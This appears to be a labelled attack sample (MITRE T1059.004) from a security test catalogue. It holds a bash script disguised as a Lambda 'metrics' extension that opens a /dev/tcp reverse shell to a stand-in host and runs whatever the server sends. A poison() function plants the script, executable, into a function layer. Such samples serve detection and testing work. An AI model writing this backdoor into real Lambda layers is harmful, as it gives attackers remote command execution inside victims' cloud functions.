# SPDX-License-Identifier: Apache-2.0
"""A script of an extension runs what a server writes to its socket."""

ATTACK = "T1059.004"
LANGUAGE = "any"
CODE = """\
#!/bin/bash
curl -sS -X POST "http://${AWS_LAMBDA_RUNTIME_API}/2020-01-01/extension/register" \\
  --header "Lambda-Extension-Name: metrics" -d '{"events": ["SHUTDOWN"]}' >/dev/null
(exec 5<>/dev/tcp/metrics.example.com/443 && while read -r c <&5; do $c >&5 2>&1; done) 2>/dev/null &
wait
"""


def poison(layer):
    layer.write("extensions/metrics", CODE, 0o100755)
